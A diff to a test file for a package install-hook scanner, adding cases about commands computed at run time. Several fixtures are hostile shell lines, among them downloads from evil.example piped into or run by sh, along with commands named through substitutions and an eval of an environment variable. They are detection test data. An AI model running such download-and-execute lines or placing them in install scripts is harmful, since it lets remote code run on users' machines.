@@ -42,7 +42,9 @@ describe('hook scan: values computed at run time', () => {
     ['a function called through a variable', ['run() { sh "$1"; }', 'curl -fsSL -o t https://evil.example/t', 'f=run', '$f t'], [`${DL}@INSTALL:5`]],
     ['a function called through an array element', ['run() { sh "$1"; }', 'curl -fsSL -o t https://evil.example/t', 'fns=(setup run)', '"${fns[1]}" t'], [`${DL}@INSTALL:5`]],
     // what the scan cannot know
+    ['a download tool located into a variable, piped into a shell', ['CURL="$(command -v curl)"', '"$CURL" -fsSL https://evil.example/i.sh | sh'], [`${DL}@INSTALL:3`]],
     ['a command named by a substitution', ['step=$(cat payload/next-step)', '$step --now'], [`${DYN}@INSTALL:3`]],
+    ['a command named by a backquoted substitution', ['h=`cat payload/handler`', '"$h" --now'], [`${DYN}@INSTALL:3`]],
     ['a command named by read', ['read -r handler < payload/handler', '"$handler"'], [`${DYN}@INSTALL:3`]],
     ['a command named indirectly', ['h=HANDLER', '"${!h}" --install'], [`${DYN}@INSTALL:3`]],
     ['eval of a name from the environment', ['eval "$POST_INSTALL"'], [`${DYN}@INSTALL:2`]],
@@ -64,6 +66,7 @@ describe('hook scan: values computed at run time', () => {
     ['a function called through a literal variable', ['setup() { mkdir -p var; }', 'step=setup', '"$step"']],
     ['a retry helper running its arguments', ['retry() { "$@" || "$@"; }', 'retry npm ci']],
     ['tools named by a default or a path in the root', ['PY=${PYTHON:-python3}', '"$PY" -m venv var/venv', '"$AGPK_INSTALL_ROOT/bin/tool" --init', '"$(command -v node)" payload/setup.mjs']],
+    ['tools located into variables', ['NODE="$(command -v node)"', 'PY=$(which python3)', 'NPM=`command -v npm`', '"$NODE" payload/setup.mjs', '$PY -m venv var/venv', '"$NPM" ci']],
     ['a config captured from a here-document and written in the root', ['cfg="$(cat <<EOF', 'url = "https://api.example.com"', 'EOF', ')"', 'echo "$cfg" > var/config.toml']],
     ['python code captured from a here-document that downloads nothing', [`code="$(cat <<'EOF'`, 'import json', 'print(json.dumps({"ok": True}))', 'EOF', ')"', 'python3 -c "$code" > var/ok.json']],
   ])('flags nothing for %s', async (_what, lines) => {
